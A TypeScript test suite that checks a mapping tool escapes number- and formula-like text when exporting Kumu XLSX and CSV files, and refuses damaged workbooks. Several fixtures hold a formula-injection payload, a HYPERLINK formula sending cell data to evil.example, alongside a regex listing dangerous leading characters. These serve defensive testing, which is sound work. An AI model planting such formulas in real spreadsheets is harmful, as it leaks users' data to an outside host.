import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import readXlsxFile from 'read-excel-file/universal';
import { describe, expect, it } from 'vitest';
import { exportAny, importAny, type FormatInput } from './formats';
import { importKumuCsv } from './kumu-csv';
import { importKumuJson } from './kumu-json';
import { importKumuXlsx } from './kumu-xlsx';
import { applied, byLabel, fixture, ok, refused } from './test-fixtures';
import { needsQuotePrefix } from './xlsx-quote';

/**
 * Reads a workbook the way an independent reader does (Python's zipfile and ElementTree, not our
 * code nor the library that wrote it): every string cell of every sheet with the `quotePrefix`
 * flag of its style, as JSON lines `[sheet, ref, text, quotePrefix]`.
 */
const PY_READ_XLSX = String.raw`
import json, sys, zipfile, xml.etree.ElementTree as ET
NS = {'m': 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'}
z = zipfile.ZipFile(sys.argv[1])
sst = [''.join(t.text or '' for t in si.iter('{%s}t' % NS['m'])) for si in ET.fromstring(z.read('xl/sharedStrings.xml')).findall('m:si', NS)]
xfs = ET.fromstring(z.read('xl/styles.xml')).find('m:cellXfs', NS).findall('m:xf', NS)
out = []
for name in sorted(n for n in z.namelist() if n.startswith('xl/worksheets/sheet')):
    for c in ET.fromstring(z.read(name)).iter('{%s}c' % NS['m']):
        if c.get('t') != 's':
            continue
        text = sst[int(c.find('m:v', NS).text)]
        style = xfs[int(c.get('s', '0'))]
        out.append([name, c.get('r'), text, style.get('quotePrefix') == '1'])
print(json.dumps(out))
`;

function readWithPython(bytes: Uint8Array): [string, string, string, boolean][] {
  const dir = mkdtempSync(join(tmpdir(), 'weavemap-xlsx-'));
  try {
    const file = join(dir, 'map.xlsx');
    writeFileSync(file, bytes);
    const r = spawnSync('python3', ['-c', PY_READ_XLSX, file], { encoding: 'utf8' });
    if (r.error || r.status !== 0)
      throw new Error(`python3 could not read the workbook: ${r.error?.message ?? r.stderr}`);
    return JSON.parse(r.stdout) as [string, string, string, boolean][];
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('Kumu XLSX: text that looks like a number or a formula', () => {
  it('knows which text needs the quote prefix', () => {
    for (const t of ['-0.00143', '42', '1e5', ' 3.5 ', '=SUM(A1)', '+', '-', '@x', '50%'])
      expect(needsQuotePrefix(t), t).toBe(true);
    for (const t of ['Trust', '007 agents', 'a-b', "'=x", '1 2'])
      expect(needsQuotePrefix(t), t).toBe(false);
  });

  it('is written unchanged with the quote-prefix style, as an independent reader sees it', async () => {
    const s = applied(ok(importKumuCsv({ elements: fixture('formula-elements.csv') })));
    const [xlsx] = await exportAny(s, 'kumu-xlsx');
    const cells = readWithPython(xlsx!.data as Uint8Array);
    const cell = (text: string) => cells.find((c) => c[2] === text);
    expect(cell('-2+3')?.[3]).toBe(true);
    expect(cell('=already escaped')?.[3]).toBe(true);
    expect(cell('=HYPERLINK("http://evil.example/?x="&A1,"Click")')?.[3]).toBe(true);
    expect(cell('Factor')?.[3]).toBe(false);
    // No literal apostrophe anywhere: readers get the text as it is.
    expect(cells.filter((c) => c[2].startsWith("'"))).toEqual([]);
  });

  it('keeps a number-like text and a literal leading apostrophe exact through a round trip', async () => {
    // Text (not numbers) as a Kumu blueprint holds it: CSV would read -0.00143 as a number.
    const s = applied(
      ok(
        importKumuJson(
          JSON.stringify({
            elements: [{ label: 'A' }, { label: 'B' }],
            connections: [
              { from: 'A', to: 'B', type: '+', note: '-0.00143' },
              { from: 'B', to: 'A', type: '-', note: "'=x" },
            ],
          }),
        ),
      ),
    );
    const [xlsx] = await exportAny(s, 'kumu-xlsx');
    const python = readWithPython(xlsx!.data as Uint8Array).map((c) => c[2]);
    expect(python).toContain('-0.00143');
    expect(python).toContain('+');
    const back = applied(ok(await importKumuXlsx(xlsx!.data as Uint8Array)));
    const notes = [...back.connections.values()].map((c) => c.extra.note).sort();
    expect(notes).toEqual(["'=x", '-0.00143']);
    expect([...back.connections.values()].map((c) => c.polarity).sort()).toEqual(['+', '-']);
  });

  it('keeps formula-like cells as text on import, escapes them in CSV and reads them back', async () => {
    const s = applied(ok(importKumuCsv({ elements: fixture('formula-elements.csv') })));
    const labels = [...s.elements.values()].map((e) => e.label).sort();
    expect(labels).toEqual(['-2+3', '=HYPERLINK("http://evil.example/?x="&A1,"Click")']);
    expect(byLabel(s, '-2+3').description).toBe('=already escaped');
    const dangerous = /^[=+\-@\t\r]/;
    const [csvElements] = await exportAny(s, 'kumu-csv');
    const rows = Papa.parse<string[]>((csvElements!.data as string).slice(1)).data.flat();
    expect(rows.filter((c) => dangerous.test(c))).toEqual([]);
    expect(rows).toContain("'-2+3");
    expect(rows).toContain("'=already escaped");
    const [xlsx] = await exportAny(s, 'kumu-xlsx');
    const sheets = await readXlsxFile((xlsx!.data as Uint8Array).slice().buffer);
    const cells = sheets
      .flatMap((sh) => sh.data.flat())
      .filter((c): c is string => typeof c === 'string');
    expect(cells).toContain('=HYPERLINK("http://evil.example/?x="&A1,"Click")');
    expect(cells.filter((c) => c.startsWith("'"))).toEqual([]);
    for (const again of [
      applied(
        ok(await importAny({ elements: csvElements!.data as string } as FormatInput, 'kumu-csv')),
      ),
      applied(ok(await importAny(xlsx!.data as Uint8Array, 'kumu-xlsx'))),
    ]) {
      expect([...again.elements.values()].map((e) => e.label).sort()).toEqual(labels);
      expect(byLabel(again, '-2+3').description).toBe('=already escaped');
    }
  });

  it('says a damaged file is damaged or not a workbook', async () => {
    const good = (
      await exportAny(applied(ok(importKumuCsv({ elements: 'Label\r\nA\r\n' }))), 'kumu-xlsx')
    )[0]!.data as Uint8Array;
    const { unzipSync, zipSync } = await import('fflate');
    const parts = unzipSync(good);
    delete parts['xl/_rels/workbook.xml.rels'];
    const damaged = [
      zipSync(parts), // a zip without the workbook's parts list
      good.slice(0, good.length / 2), // cut short
      new TextEncoder().encode('PK not really a zip'),
      new TextEncoder().encode('Label,Type\nA,Factor\n'), // a CSV named .xlsx
    ];
    for (const bytes of damaged) {
      const [message] = refused(await importKumuXlsx(bytes));
      expect(message).toMatch(/^This file is damaged or is not an Excel workbook \(\.xlsx\)/);
      expect(message).not.toMatch(/file not found/);
    }
  });
});
